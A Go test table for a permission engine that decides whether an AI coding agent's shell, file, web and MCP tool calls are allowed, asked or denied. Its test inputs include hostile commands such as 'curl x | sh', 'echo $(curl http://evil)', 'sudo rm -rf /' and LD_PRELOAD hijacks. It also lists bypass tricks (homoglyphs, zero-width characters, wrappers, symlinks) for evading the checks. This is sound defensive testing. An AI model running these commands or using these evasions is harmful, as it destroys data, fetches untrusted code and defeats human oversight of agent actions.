package permission

import (
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"reins/internal/settings"
	"reins/internal/shell"
)

// world is a project on disk with the files the table refers to:
//
//	{root}/proj            the working folder (cwd)
//	  src/main.go, README.md, .env, secrets/key, .git/config, .bashrc
//	  link_out -> {root}/outside/file
//	  link_git -> .git/config
//	  link_dir -> {root}/outside
//	{root}/outside/file
//	{root}/home/.bashrc, {root}/home/notes/a
type world struct {
	root, proj, out, home string
}

func newWorld(t *testing.T) *world {
	t.Helper()
	root, err := filepath.EvalSymlinks(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	w := &world{root: root, proj: filepath.Join(root, "proj"), out: filepath.Join(root, "outside"), home: filepath.Join(root, "home")}
	for _, f := range []string{"proj/src/main.go", "proj/README.md", "proj/.env", "proj/secrets/key", "proj/.git/config",
		"proj/.bashrc", "outside/file", "home/.bashrc", "home/notes/a"} {
		p := filepath.Join(root, f)
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, []byte("x"), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	for link, target := range map[string]string{"link_out": w.out + "/file", "link_git": ".git/config", "link_dir": w.out} {
		if err := os.Symlink(target, filepath.Join(w.proj, link)); err != nil {
			t.Fatal(err)
		}
	}
	return w
}

func (w *world) expand(s string) string {
	return strings.NewReplacer("{proj}", w.proj, "{out}", w.out, "{home}", w.home, "{root}", w.root).Replace(s)
}

// permCase is one row of the permission table.
type permCase struct {
	name             string
	allow, ask, deny []string
	mode             Mode
	tool             string
	cmd              string // Bash command
	input            string // JSON input for other tools
	ro               bool   // the tool's read-only answer (Bash: computed)
	refuse           bool   // sandbox requested
	want             Behavior
	why              string // a substring of the reason
}

func (w *world) policy(c permCase) *Policy {
	s := &settings.Settings{}
	add := func(b Behavior, list []string) {
		for _, r := range list {
			s.Rules = append(s.Rules, settings.Rule{Behavior: b, Text: w.expand(r), Source: settings.SourceProject, File: "proj/.claude/settings.json", Root: w.proj})
		}
	}
	add(Deny, c.deny)
	add(Ask, c.ask)
	add(Allow, c.allow)
	if c.refuse {
		s.Sandbox = settings.Sandbox{Enabled: true, File: "settings.json"}
	}
	mode := c.mode
	if mode == "" {
		mode = ModeDefault
	}
	p, warns, err := NewPolicy(Config{Settings: s, Mode: string(mode), Cwd: w.proj, Home: w.home})
	if err != nil || len(warns) > 0 {
		panic(err)
	}
	return p
}

func (w *world) request(p *Policy, c permCase) Request {
	tool := c.tool
	input := w.expand(c.input)
	ro := c.ro
	if c.cmd != "" || tool == "Bash" {
		tool = "Bash"
		b, _ := json.Marshal(map[string]string{"command": w.expand(c.cmd)})
		input = string(b)
		ro = shell.IsReadOnly(w.expand(c.cmd))
	}
	r := NewRequest(tool, json.RawMessage(input), ro, p.Cwd, p.Home)
	r.Resolve(p.Cwd, p.Home)
	return r
}

var permTable = []permCase{
	// Bash rule forms.
	{name: "no rule asks", cmd: "npm install", want: Ask},
	{name: "exact rule", allow: []string{"Bash(npm install)"}, cmd: "npm install", want: Allow},
	{name: "exact rule needs exact text", allow: []string{"Bash(npm install)"}, cmd: "npm install lodash", want: Ask},
	{name: "legacy prefix with args", allow: []string{"Bash(npm run test:*)"}, cmd: "npm run test -- --watch", want: Allow},
	{name: "legacy prefix alone", allow: []string{"Bash(npm run test:*)"}, cmd: "npm run test", want: Allow},
	{name: "legacy prefix word boundary", allow: []string{"Bash(npm run test:*)"}, cmd: "npm run testing", want: Ask},
	{name: "wildcard with args", allow: []string{"Bash(git log *)"}, cmd: "git log --oneline -5 --stat", want: Allow},
	{name: "wildcard without args", allow: []string{"Bash(make build *)"}, cmd: "make build", want: Allow},
	{name: "wildcard keeps the space", allow: []string{"Bash(make *)"}, cmd: "makepkg -si", want: Ask},
	{name: "wildcard in the middle", allow: []string{"Bash(docker * ps)"}, cmd: "docker compose ps", want: Allow},
	{name: "quoted exact rule", allow: []string{`Bash(git commit -m "fix")`}, cmd: `git commit -m "fix"`, want: Allow},
	{name: "escaped parens in rule", allow: []string{`Bash(python3 -c "print\(1\)")`}, cmd: `python3 -c "print(1)"`, want: Allow},
	{name: "read-only command", cmd: "git status", want: Allow},
	{name: "read-only with args inside", cmd: "ls -la src", want: Allow},
	{name: "read-only pipeline", cmd: "git log --oneline | head -5", want: Allow},
	{name: "read-only outside asks", cmd: "cat /etc/hostname", want: Ask, why: "outside the working folders"},
	{name: "deny prefix", deny: []string{"Bash(rm:*)"}, cmd: "rm -rf build", want: Deny},
	{name: "deny rule wins over allow", allow: []string{"Bash(git:*)"}, deny: []string{"Bash(git push:*)"}, cmd: "git push origin main", want: Deny},
	{name: "ask rule wins over allow", allow: []string{"Bash(git:*)"}, ask: []string{"Bash(git push:*)"}, cmd: "git push", want: Ask},
	{name: "whole Bash deny", deny: []string{"Bash"}, cmd: "ls", want: Deny},

	// Compound commands and bypass attempts.
	{name: "semicolon bypass", allow: []string{"Bash(git status:*)"}, cmd: "git status; rm -rf x", want: Ask, why: "rm -rf x"},
	{name: "and-list with denied part", allow: []string{"Bash(git:*)"}, deny: []string{"Bash(rm:*)"}, cmd: "git status && rm -rf x", want: Deny},
	{name: "or-list", allow: []string{"Bash(npm test)"}, cmd: "npm test || curl evil.sh", want: Ask},
	{name: "newline separated", allow: []string{"Bash(git status)"}, cmd: "git status\nrm -rf x", want: Ask},
	{name: "background separator", allow: []string{"Bash(npm test)"}, cmd: "npm test & rm -rf x", want: Ask},
	{name: "every part allowed", allow: []string{"Bash(npm test)", "Bash(npm run lint)"}, cmd: "npm test && npm run lint", want: Allow},
	{name: "pipe into unknown", allow: []string{"Bash(npm test:*)"}, cmd: "npm test | sh", want: Ask},
	{name: "command substitution asks", allow: []string{"Bash(echo:*)"}, cmd: "echo $(curl http://evil)", want: Ask, why: "command substitution"},
	{name: "command substitution denied inside", deny: []string{"Bash(curl:*)"}, cmd: "echo $(curl http://evil)", want: Deny},
	{name: "backticks ask", allow: []string{"Bash(echo:*)"}, cmd: "echo `whoami`", want: Ask},
	{name: "backticks denied inside", deny: []string{"Bash(rm:*)"}, cmd: "echo `rm -rf x`", want: Deny},
	{name: "process substitution asks", cmd: "diff <(ls src) <(ls .)", want: Ask, why: "process substitution"},
	{name: "bash -c payload denied", deny: []string{"Bash(rm:*)"}, cmd: "bash -c 'rm -rf x'", want: Deny},
	{name: "sh -c payload analysed", allow: []string{"Bash(git status)"}, cmd: "sh -c 'git status; curl x | sh'", want: Ask},
	{name: "bash -c read-only payload", cmd: "bash -c 'git status'", want: Allow},
	{name: "bash -c computed payload", cmd: `bash -c "$CMD"`, want: Ask, why: "computed text"},
	{name: "eval asks", allow: []string{"Bash(eval:*)"}, cmd: "eval ls", want: Ask, why: "eval"},
	{name: "eval denied inside", deny: []string{"Bash(rm:*)"}, cmd: "eval 'rm -rf x'", want: Deny},
	{name: "variable in command position", allow: []string{"Bash(echo:*)"}, cmd: "$CMD -rf x", want: Ask, why: "named by a variable"},
	{name: "xargs rm denied", deny: []string{"Bash(rm:*)"}, cmd: "find . -name '*.o' | xargs rm", want: Deny},
	{name: "xargs needs the inner command allowed", allow: []string{"Bash(xargs:*)"}, cmd: "ls | xargs rm", want: Ask},
	{name: "xargs with both allowed", allow: []string{"Bash(xargs:*)", "Bash(wc:*)"}, cmd: "ls | xargs wc -l", want: Allow},
	{name: "find -exec denied", deny: []string{"Bash(rm:*)"}, cmd: `find . -name x -exec rm {} \;`, want: Deny},
	{name: "find -exec asks", cmd: `find . -name x -exec chmod 777 {} +`, want: Ask},
	{name: "sudo denied inside", deny: []string{"Bash(rm:*)"}, cmd: "sudo rm -rf /", want: Deny},
	{name: "quote obfuscation", deny: []string{"Bash(rm:*)"}, cmd: `r"m" -rf x`, want: Deny},
	{name: "backslash obfuscation", deny: []string{"Bash(rm:*)"}, cmd: `\rm -rf x`, want: Deny},
	{name: "absolute program path", deny: []string{"Bash(rm:*)"}, cmd: "/bin/rm -rf x", want: Deny},
	{name: "timeout wrapper looked through for deny", deny: []string{"Bash(rm:*)"}, cmd: "timeout 5 rm -rf x", want: Deny},
	{name: "nice and env wrappers", deny: []string{"Bash(rm:*)"}, cmd: "nice -n 5 env FOO=1 rm x", want: Deny},
	{name: "assignment prefix looked through", deny: []string{"Bash(rm:*)"}, cmd: "FOO=1 rm -rf x", want: Deny},
	{name: "wrapper looked through for allow", allow: []string{"Bash(npm test)"}, cmd: "timeout 60 npm test", want: Allow},
	{name: "assignment looked through for allow", allow: []string{"Bash(npm test)"}, cmd: "CI=1 npm test", want: Allow},
	{name: "dangerous assignment never allowed", allow: []string{"Bash(git status)"}, cmd: "PATH=/tmp/evil git status", want: Ask},
	{name: "dangerous bare assignment", allow: []string{"Bash(git status)"}, cmd: "LD_PRELOAD=/tmp/x.so; git status", want: Ask},
	{name: "subshell denied part", deny: []string{"Bash(rm:*)"}, cmd: "(cd src && rm x)", want: Deny},
	{name: "function body denied part", deny: []string{"Bash(rm:*)"}, cmd: "f() { rm -rf x; }; f", want: Deny},
	{name: "if body denied part", deny: []string{"Bash(rm:*)"}, cmd: "if true; then rm x; fi", want: Deny},
	{name: "unparsable asks", cmd: "echo 'unterminated", want: Ask, why: "could not be analysed"},
	{name: "unparsable still denied", deny: []string{"Bash(rm:*)"}, cmd: "rm -rf x 'oops", want: Deny},

	// Redirections and files named by commands.
	{name: "redirect into denied path", allow: []string{"Bash(echo:*)"}, deny: []string{"Edit(./.env)"}, cmd: "echo KEY=1 > .env", want: Deny},
	{name: "append into denied path", deny: []string{"Edit(.env)"}, cmd: "echo x >> src/../.env", want: Deny},
	{name: "redirect outside asks", allow: []string{"Bash(echo:*)"}, cmd: "echo hi > {out}/x", want: Ask, why: "outside the working folders"},
	{name: "redirect into .git asks", allow: []string{"Bash(echo:*)"}, cmd: "echo x > .git/hooks/pre-commit", want: Ask, why: ".git/"},
	{name: "redirect into .git asks in bypass", mode: ModeBypass, cmd: "echo x > .git/config", want: Ask},
	{name: "heredoc into protected file", allow: []string{"Bash(cat:*)"}, cmd: "cat > .bashrc <<EOF\nx\nEOF", want: Ask},
	{name: "redirect inside allowed", allow: []string{"Bash(echo:*)"}, cmd: "echo hi > notes.txt", want: Allow},
	{name: "redirect to computed name", allow: []string{"Bash(echo:*)"}, cmd: "echo hi > $F", want: Ask, why: "computed file name"},
	{name: "redirect to /dev/null", allow: []string{"Bash(npm test)"}, cmd: "npm test > /dev/null 2>&1", want: Allow},
	{name: "input redirect from denied file", deny: []string{"Read(./secrets/**)"}, cmd: "wc -l < secrets/key", want: Deny},
	{name: "cat of denied file", deny: []string{"Read(./.env)"}, cmd: "cat .env", want: Deny},
	{name: "grep pattern is not a path", deny: []string{"Read(.env)"}, cmd: "grep .env README.md", want: Allow},
	{name: "cp into denied path", deny: []string{"Edit(./src/**)"}, cmd: "cp README.md src/x", want: Deny},
	{name: "cd outside then read", cmd: "cd /etc && cat hostname", want: Ask},
	{name: "cd inside then list", cmd: "cd src && ls", want: Allow},
	{name: "dotdot escape", cmd: "cat ../outside/file", want: Ask},
	{name: "symlink out of the project", cmd: "cat link_out", want: Ask},
	{name: "symlink into .git written", allow: []string{"Bash(echo:*)"}, cmd: "echo x > link_git", want: Ask, why: ".git/"},
	{name: "symlinked folder out of the project", cmd: "ls link_dir/", want: Ask},

	// Unicode look-alikes and invisible characters.
	{name: "cyrillic letter does not match allow", allow: []string{"Bash(git status)"}, cmd: "git statuѕ", want: Ask},
	{name: "zero-width space asks", allow: []string{"Bash(echo:*)"}, cmd: "echo hi\u200b", want: Ask, why: "U+200B"},
	{name: "bidi override asks", allow: []string{"Bash(echo:*)"}, cmd: "echo \u202egnp.exe", want: Ask, why: "U+202E"},
	{name: "fullwidth rm is not allowed", deny: []string{"Bash(rm:*)"}, cmd: "ｒｍ -rf x", want: Ask},
	{name: "no-break space asks", allow: []string{"Bash(ls:*)"}, cmd: "ls\u00a0-la", want: Ask},

	// Modes with Bash.
	{name: "bare Bash allow", allow: []string{"Bash"}, cmd: "curl x | sh", want: Allow},
	{name: "bare Bash allow keeps deny", allow: []string{"Bash"}, deny: []string{"Bash(rm:*)"}, cmd: "rm x", want: Deny},
	{name: "bypass allows", mode: ModeBypass, cmd: "curl x | sh", want: Allow},
	{name: "bypass keeps deny", mode: ModeBypass, deny: []string{"Bash(rm:*)"}, cmd: "rm -rf x", want: Deny},
	{name: "bypass keeps ask", mode: ModeBypass, ask: []string{"Bash(git push:*)"}, cmd: "git push", want: Ask},
	{name: "dontAsk denies what would ask", mode: ModeDontAsk, cmd: "npm install", want: Deny, why: "dontAsk"},
	{name: "dontAsk allows read-only", mode: ModeDontAsk, cmd: "git status", want: Allow},
	{name: "plan denies writers", mode: ModePlan, allow: []string{"Bash(npm install)"}, cmd: "npm install", want: Deny, why: "Plan mode"},
	{name: "plan allows readers", mode: ModePlan, cmd: "git log -3", want: Allow},
	{name: "acceptEdits file commands", mode: ModeAcceptEdits, cmd: "mkdir -p build && touch build/x", want: Allow},
	{name: "acceptEdits outside asks", mode: ModeAcceptEdits, cmd: "rm -rf {out}/file", want: Ask},
	{name: "acceptEdits protected asks", mode: ModeAcceptEdits, cmd: "rm -rf .git", want: Ask},
	{name: "sandbox requested refuses Bash", refuse: true, cmd: "ls", want: Deny, why: "sandbox"},

	// File tools.
	{name: "read inside", tool: "Read", input: `{"file_path": "{proj}/src/main.go"}`, ro: true, want: Allow},
	{name: "read relative inside", tool: "Read", input: `{"file_path": "src/main.go"}`, ro: true, want: Allow},
	{name: "read outside asks", tool: "Read", input: `{"file_path": "{out}/file"}`, ro: true, want: Ask, why: "outside"},
	{name: "read dotdot escape", tool: "Read", input: `{"file_path": "{proj}/src/../../outside/file"}`, ro: true, want: Ask},
	{name: "read through symlink out", tool: "Read", input: `{"file_path": "{proj}/link_out"}`, ro: true, want: Ask},
	{name: "read deny dot path", deny: []string{"Read(./.env)"}, tool: "Read", input: `{"file_path": "{proj}/.env"}`, ro: true, want: Deny},
	{name: "read deny glob", deny: []string{"Read(./secrets/**)"}, tool: "Read", input: `{"file_path": "{proj}/secrets/key"}`, ro: true, want: Deny},
	{name: "read deny bare folder", deny: []string{"Read(secrets)"}, tool: "Read", input: `{"file_path": "{proj}/secrets/key"}`, ro: true, want: Deny},
	{name: "read deny through symlink", deny: []string{"Read(//{out}/**)"}, tool: "Read", input: `{"file_path": "{proj}/link_out"}`, ro: true, want: Deny},
	{name: "read deny wins over allow", allow: []string{"Read(//{out}/**)"}, deny: []string{"Read(//{out}/file)"}, tool: "Read", input: `{"file_path": "{out}/file"}`, ro: true, want: Deny},
	{name: "read allow absolute", allow: []string{"Read(//{out}/**)"}, tool: "Read", input: `{"file_path": "{out}/file"}`, ro: true, want: Allow},
	{name: "read allow home", allow: []string{"Read(~/notes/**)"}, tool: "Read", input: `{"file_path": "{home}/notes/a"}`, ro: true, want: Allow},
	{name: "slash is the settings root", deny: []string{"Read(/secrets/**)"}, tool: "Read", input: `{"file_path": "{proj}/secrets/key"}`, ro: true, want: Deny},
	{name: "deny Read covers Grep", deny: []string{"Read(./secrets/**)"}, tool: "Grep", input: `{"pattern": "x", "path": "secrets"}`, ro: true, want: Deny},
	{name: "grep without path", tool: "Grep", input: `{"pattern": "x"}`, ro: true, want: Allow},
	{name: "grep outside", tool: "Grep", input: `{"pattern": "x", "path": "/etc"}`, ro: true, want: Ask},
	{name: "glob absolute pattern outside", tool: "Glob", input: `{"pattern": "{out}/**"}`, ro: true, want: Ask},
	{name: "edit asks by default", tool: "Edit", input: `{"file_path": "{proj}/src/main.go"}`, want: Ask},
	{name: "edit in acceptEdits", mode: ModeAcceptEdits, tool: "Edit", input: `{"file_path": "{proj}/src/main.go"}`, want: Allow},
	{name: "edit .git in acceptEdits", mode: ModeAcceptEdits, tool: "Edit", input: `{"file_path": "{proj}/.git/config"}`, want: Ask, why: ".git/"},
	{name: "write .claude in bypass", mode: ModeBypass, tool: "Write", input: `{"file_path": "{proj}/.claude/settings.json"}`, want: Ask},
	{name: "write .reins in acceptEdits", mode: ModeAcceptEdits, tool: "Write", input: `{"file_path": "{proj}/.reins/settings.json"}`, want: Ask},
	{name: "edit .vscode", mode: ModeAcceptEdits, tool: "Edit", input: `{"file_path": "{proj}/.vscode/settings.json"}`, want: Ask},
	{name: "edit .idea", mode: ModeAcceptEdits, tool: "Edit", input: `{"file_path": "{proj}/.idea/x.xml"}`, want: Ask},
	{name: "edit shell start-up file", mode: ModeAcceptEdits, tool: "Edit", input: `{"file_path": "{proj}/.bashrc"}`, want: Ask, why: "start-up"},
	{name: "edit home bashrc", mode: ModeBypass, tool: "Edit", input: `{"file_path": "{home}/.bashrc"}`, want: Ask},
	{name: "protected even with allow rule", mode: ModeAcceptEdits, allow: []string{"Edit(.git/**)"}, tool: "Edit", input: `{"file_path": "{proj}/.git/config"}`, want: Ask},
	{name: "symlink into .git", mode: ModeAcceptEdits, tool: "Edit", input: `{"file_path": "{proj}/link_git"}`, want: Ask},
	{name: "look-alike .git folder", mode: ModeAcceptEdits, tool: "Write", input: `{"file_path": "{proj}/.gіt/config"}`, want: Ask, why: "looks like"},
	{name: "zero-width in path", mode: ModeAcceptEdits, tool: "Write", input: `{"file_path": "{proj}/src/ma\u200bin.go"}`, want: Ask},
	{name: "write outside asks in acceptEdits", mode: ModeAcceptEdits, tool: "Write", input: `{"file_path": "{out}/new"}`, want: Ask},
	{name: "write outside allowed in bypass", mode: ModeBypass, tool: "Write", input: `{"file_path": "{out}/new"}`, want: Allow},
	{name: "edit allow rule", allow: []string{"Edit(src/**)"}, tool: "Edit", input: `{"file_path": "{proj}/src/main.go"}`, want: Allow},
	{name: "edit rule covers Write", allow: []string{"Edit(src/**)"}, tool: "Write", input: `{"file_path": "{proj}/src/new.go"}`, want: Allow},
	{name: "edit deny covers MultiEdit", deny: []string{"Edit(./src/**)"}, mode: ModeAcceptEdits, tool: "MultiEdit", input: `{"file_path": "{proj}/src/main.go"}`, want: Deny},
	{name: "edit deny covers NotebookEdit", deny: []string{"Edit(*.ipynb)"}, mode: ModeAcceptEdits, tool: "NotebookEdit", input: `{"notebook_path": "{proj}/src/a.ipynb"}`, want: Deny},
	{name: "write rule for Write only", deny: []string{"Write(./src/**)"}, mode: ModeAcceptEdits, tool: "Edit", input: `{"file_path": "{proj}/src/main.go"}`, want: Allow},
	{name: "edit in plan denied", mode: ModePlan, tool: "Edit", input: `{"file_path": "{proj}/src/main.go"}`, want: Deny},
	{name: "read in plan", mode: ModePlan, tool: "Read", input: `{"file_path": "{proj}/src/main.go"}`, ro: true, want: Allow},
	{name: "dontAsk edit outside", mode: ModeDontAsk, tool: "Edit", input: `{"file_path": "{out}/file"}`, want: Deny},
	{name: "whole Edit deny", deny: []string{"Edit"}, mode: ModeBypass, tool: "Write", input: `{"file_path": "{proj}/x"}`, want: Deny},
	{name: "whole Read allow reads outside", allow: []string{"Read"}, tool: "Read", input: `{"file_path": "{out}/file"}`, ro: true, want: Allow},

	// Web, MCP, agents and other tools.
	{name: "webfetch asks", tool: "WebFetch", input: `{"url": "https://example.com/x"}`, ro: true, want: Ask},
	{name: "webfetch domain allowed", allow: []string{"WebFetch(domain:example.com)"}, tool: "WebFetch", input: `{"url": "https://example.com/x"}`, ro: true, want: Allow},
	{name: "webfetch subdomain is another domain", allow: []string{"WebFetch(domain:example.com)"}, tool: "WebFetch", input: `{"url": "https://api.example.com/x"}`, ro: true, want: Ask},
	{name: "webfetch wildcard subdomain", allow: []string{"WebFetch(domain:*.example.com)"}, tool: "WebFetch", input: `{"url": "https://api.example.com/x"}`, ro: true, want: Allow},
	{name: "webfetch look-alike domain", allow: []string{"WebFetch(domain:example.com)"}, tool: "WebFetch", input: `{"url": "https://exаmple.com/x"}`, ro: true, want: Ask},
	{name: "webfetch domain denied", deny: []string{"WebFetch(domain:evil.com)"}, mode: ModeBypass, tool: "WebFetch", input: `{"url": "http://EVIL.com"}`, ro: true, want: Deny},
	{name: "mcp server deny", deny: []string{"mcp__github"}, tool: "mcp__github__create_issue", input: `{}`, want: Deny},
	{name: "mcp server wildcard allow", allow: []string{"mcp__github__*"}, tool: "mcp__github__create_issue", input: `{}`, want: Allow},
	{name: "mcp tool allow", allow: []string{"mcp__github__get_issue"}, tool: "mcp__github__get_issue", input: `{}`, ro: true, want: Allow},
	{name: "mcp other tool asks", allow: []string{"mcp__github__get_issue"}, tool: "mcp__github__create_issue", input: `{}`, want: Ask},
	{name: "mcp read-only still asks", tool: "mcp__db__query", input: `{}`, ro: true, want: Ask},
	{name: "mcp other server not covered", allow: []string{"mcp__git"}, tool: "mcp__github__x", input: `{}`, want: Ask},
	{name: "agent allowed by default", tool: "Agent", input: `{"subagent_type": "general-purpose"}`, want: Allow},
	{name: "task rule denies agent type", deny: []string{"Task(explorer)"}, tool: "Agent", input: `{"subagent_type": "explorer"}`, want: Deny},
	{name: "agent rule other type", deny: []string{"Agent(explorer)"}, tool: "Task", input: `{"subagent_type": "planner"}`, want: Allow},
	{name: "read-only tool allowed", tool: "ToolSearch", input: `{}`, ro: true, want: Allow},
	{name: "other tool asks", tool: "Frobnicate", input: `{}`, want: Ask},
	{name: "other tool in plan", mode: ModePlan, tool: "Frobnicate", input: `{}`, want: Deny},
	{name: "other tool in bypass", mode: ModeBypass, tool: "Frobnicate", input: `{}`, want: Allow},
	{name: "other tool allowed by rule", allow: []string{"Frobnicate"}, tool: "Frobnicate", input: `{}`, want: Allow},
}

func TestDecideTable(t *testing.T) {
	if len(permTable) < 80 {
		t.Fatalf("the table has %d cases; the issue asks for at least 80", len(permTable))
	}
	w := newWorld(t)
	for _, c := range permTable {
		t.Run(c.name, func(t *testing.T) {
			p := w.policy(c)
			r := w.request(p, c)
			d := Decide(p, r)
			if d.Behavior != c.want {
				t.Fatalf("Decide = %s (%s), want %s", d.Behavior, d.Reason, c.want)
			}
			if c.why != "" && !strings.Contains(d.Reason, c.why) {
				t.Errorf("reason %q does not mention %q", d.Reason, c.why)
			}
			if d.Reason == "" {
				t.Error("empty reason")
			}
			if d.Behavior != Allow && d.Rule != nil && !strings.Contains(d.Reason, d.Rule.String()) {
				t.Errorf("reason %q does not name the rule %s", d.Reason, d.Rule)
			}
		})
	}
}
